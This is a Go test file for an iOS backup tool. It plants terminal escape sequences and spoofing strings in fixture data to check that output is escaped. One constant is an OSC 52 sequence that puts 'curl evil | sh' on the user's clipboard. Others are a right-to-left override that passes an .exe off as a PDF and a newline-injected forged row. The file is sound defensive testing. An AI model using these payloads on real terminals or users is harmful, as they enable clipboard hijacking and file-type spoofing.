package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/rogpeppe/go-internal/testscript"

	"github.com/iosbackup/iosbackup/internal/backuptest"
	"github.com/iosbackup/iosbackup/internal/dbfixture"
)

// Hostile text planted by escapebackup.
const (
	// osc52 sets the terminal's clipboard to "curl evil | sh" and its
	// title to "pwned".
	osc52     = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;pwned\x07"
	rloName   = "invoice\u202Efdp.exe"
	forgedRow = "Library/x\nHomeDomain\tLibrary/forged.txt\tfile\t1\t3"
)

// escapebackup DIR writes an unencrypted backup whose device name, file
// names, contact, chat name and message text carry terminal escapes and
// bidirectional overrides.
func cmdEscapeBackup(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 1 {
		ts.Fatalf("usage: escapebackup DIR")
	}
	ab, err := dbfixture.AddressBook(dbfixture.ABiOS15, dbfixture.Person{
		ID: 1, First: osc52 + "Mallory", Last: "\u202Egnorw",
		Phones: []dbfixture.Value{{Label: dbfixture.SystemLabel("Mobile"), Value: "+1 555 010 0001"}},
		Note:   "line1\x1b[2Jline2",
	})
	ts.Check(err)
	at := time.Date(2024, 5, 30, 18, 0, 0, 0, time.UTC)
	sms, err := dbfixture.SMS(dbfixture.SMSiOS18, dbfixture.SMSData{
		Handles: []dbfixture.SMSHandle{{RowID: 1, ID: "+15550100001"}},
		Chats: []dbfixture.SMSChat{{RowID: 1, GUID: "iMessage;+;chat1", Identifier: "chat1", Service: "iMessage",
			DisplayName: osc52 + "Group", Group: true, Handles: []int64{1}}},
		Attachments: []dbfixture.SMSAttachment{{RowID: 1, GUID: "AT-1", Filename: "~/Library/SMS/Attachments/aa/01/AT-1/" + rloName,
			MIME: "application/pdf", TransferName: rloName, Size: 3, Created: at}},
		Messages: []dbfixture.SMSMessage{
			{RowID: 1, GUID: "M1", Text: "hello " + osc52 + "\nsecond line\u202Etxt.exe", Handle: 1, Service: "iMessage",
				Date: at, Chats: []int64{1}},
			{RowID: 2, GUID: "M2", Text: "\uFFFCfile", Handle: 1, Service: "iMessage",
				Date: at.Add(time.Minute), Chats: []int64{1}, Attachments: []int64{1}},
		},
	})
	ts.Check(err)
	_, err = backuptest.Write(ts.MkAbs(args[0]), backuptest.Options{
		Era: backuptest.Era10_2, Seed: 11,
		Device: backuptest.DeviceInfo{Name: osc52 + "Phone\u202E", PhoneNumber: "+1 555 010 0000",
			Apps: []string{"com.example." + osc52}},
	}, []backuptest.File{
		{Domain: "HomeDomain", Path: "Library/SMS/sms.db", Data: sms},
		{Domain: "HomeDomain", Path: "Library/AddressBook/AddressBook.sqlitedb", Data: ab},
		{Domain: "MediaDomain", Path: "Library/SMS/Attachments/aa/01/AT-1/" + rloName, Data: []byte("MZ\x90")},
		{Domain: "HomeDomain", Path: forgedRow, Data: []byte("x")},
	})
	ts.Check(err)
}

// TestSafe checks the escaping of every unsafe rune class.
func TestSafe(t *testing.T) {
	cases := []struct{ in, want string }{
		{"plain Ünïcødé 日本語 👨‍👩‍👧", "plain Ünïcødé 日本語 👨‍👩‍👧"},
		{osc52 + "x", `\e]52;c;Y3VybCBldmlsIHwgc2g=\x07\e]0;pwned\x07x`},
		{rloName, `invoice\u{202E}fdp.exe`},
		{"a\u2066b\u2069c\u200Fd\u061Ce", `a\u{2066}b\u{2069}c\u{200F}d\u{061C}e`},
		{"c1\u009b31m del\x7f", `c1\u{009B}31m del\x7f`},
		{"bad\xff\xfeutf8", `bad\xff\xfeutf8`},
		{"tab\there\nnew\rret", `tab\there\nnew\rret`},
	}
	for _, c := range cases {
		if got := safe(c.in); got != c.want {
			t.Errorf("safe(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	if got := safeLines("a\nb\x1b"); got != "a\nb\\e" {
		t.Errorf("safeLines = %q", got)
	}
	if got := string(jsonSafe([]byte(`{"a":"x` + "\u202E\u0085\x7f" + `y"}`))); got != `{"a":"x\u202e\u0085\u007fy"}` {
		t.Errorf("jsonSafe = %s", got)
	}
	for _, s := range []string{osc52, rloName, forgedRow, "\u009b", "\xc2\x9b"} {
		out := safe(s)
		if strings.ContainsAny(out, "\x1b\x07\n\t\r\u202E\u009b") {
			t.Errorf("safe(%q) = %q still holds a control", s, out)
		}
	}
}

// runCapture runs ibackup in process and returns its exit status, standard
// output and standard error.
func runCapture(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	out, err := os.CreateTemp(t.TempDir(), "stdout")
	if err != nil {
		t.Fatal(err)
	}
	defer out.Close()
	var stderr bytes.Buffer
	code := run(args, nil, out, &stderr)
	b, err := os.ReadFile(out.Name())
	if err != nil {
		t.Fatal(err)
	}
	return code, string(b), stderr.String()
}

// TestErrorsEscaped checks that error messages naming hostile paths or
// values do not carry them raw to the terminal.
func TestErrorsEscaped(t *testing.T) {
	dir := t.TempDir()
	for _, args := range [][]string{
		{"info", filepath.Join(dir, osc52+rloName)},
		{"messages", "--db", filepath.Join(dir, "sms"+osc52+".db")},
		{"list", filepath.Join(dir, "\u202Eevil")},
		{"nosuch" + osc52},
	} {
		code, _, stderr := runCapture(t, args...)
		if code == 0 || stderr == "" {
			t.Errorf("%q: exit %d, stderr %q", args, code, stderr)
		}
		if strings.ContainsAny(stderr, "\x1b\x07\u202E") {
			t.Errorf("%q: raw control on stderr: %q", args, stderr)
		}
		if strings.Count(stderr, "\n") > 2 {
			t.Errorf("%q: stderr is not one line: %q", args, stderr)
		}
	}
}

// FuzzSafe checks that safe never lets an unsafe rune or invalid UTF-8
// through and never produces more than one line, and that jsonSafe keeps
// JSON values exact.
func FuzzSafe(f *testing.F) {
	for _, s := range []string{osc52, rloName, forgedRow, "\xc2\x9b31m", "\xff", "a\u2028b", "日本\u200f語"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := safe(s)
		if !utf8.ValidString(out) || strings.ContainsRune(out, '\n') {
			t.Fatalf("safe(%q) = %q", s, out)
		}
		for _, r := range out {
			if unsafeRune(r) {
				t.Fatalf("safe(%q) = %q holds %U", s, out, r)
			}
		}
		if !utf8.ValidString(s) {
			return
		}
		b, _ := json.Marshal(s)
		var back string
		if err := json.Unmarshal(jsonSafe(b), &back); err != nil || back != s {
			t.Fatalf("jsonSafe changed %q to %q (%v)", s, back, err)
		}
		for _, r := range string(jsonSafe(b)) {
			if unsafeRune(r) {
				t.Fatalf("jsonSafe(%q) holds %U", s, r)
			}
		}
	})
}
